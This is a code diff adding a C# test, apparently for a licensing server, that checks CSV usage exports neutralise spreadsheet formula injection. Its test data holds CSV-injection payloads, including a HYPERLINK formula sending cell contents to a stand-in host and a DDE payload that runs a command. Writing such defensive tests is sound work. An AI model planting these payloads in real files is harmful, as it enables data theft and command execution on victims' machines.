@@ -130,6 +130,48 @@ public sealed partial class UsageLogTests(TwoServers pool) : IClassFixture<TwoSe
         Assert.Contains($",checkout,{code},primary,\"client,with\"\"comma\",1,", csv);
     }
 
+    /// <summary>
+    /// OWASP CSV injection: a client id is the client's own text, and a spreadsheet runs a cell that starts with =, +, -
+    /// or @ as a formula. Such a cell is prefixed with ' (and then quoted as RFC 4180 asks).
+    /// </summary>
+    [Fact]
+    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised()
+    {
+        var code = PoolFixture.NewCode("CSVF");
+        await using var services = ClientServices(_primary.Url);
+        var client = services.GetRequiredService<LicensingClient>();
+        await client.AddLicenseAsync(TestSecurity.License(code, 10));
+        string[] hostile = ["=HYPERLINK(\"https://evil.example.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"];
+        foreach (var clientId in hostile) await client.CheckoutAsync(code, 1, clientId);
+        using var http = _primary.CreateHttpClient();
+        var csv = await Until.ValueAsync(() => http.GetStringAsync($"api/v1/usage?code={code}&kind=checkout&format=csv"),
+            s => s.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length == 1 + hostile.Length, TimeSpan.FromSeconds(15), "the checkouts as CSV");
+
+        var clients = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(ClientCell).Order(StringComparer.Ordinal).ToList();
+        Assert.Equal(hostile.Select(h => "'" + h).Order(StringComparer.Ordinal), clients);
+        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example.test/?\"\"&A1,\"\"click\"\")\",", csv);
+        Assert.Contains(",'-2+3,", csv);
+    }
+
+    /// <summary>The client cell (the fifth) of a CSV line, unquoted.</summary>
+    private static string ClientCell(string line)
+    {
+        var cells = new List<string>();
+        var cell = new System.Text.StringBuilder();
+        var quoted = false;
+        for (var i = 0; i < line.Length; i++)
+        {
+            var c = line[i];
+            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
+            else if (c == '"') quoted = !quoted;
+            else if (c == ',' && !quoted) { cells.Add(cell.ToString()); cell.Clear(); }
+            else cell.Append(c);
+        }
+
+        cells.Add(cell.ToString());
+        return cells[4];
+    }
+
     [Fact]
     public async Task The_orleans_dashboard_and_the_pool_view_are_served_by_every_server()
     {
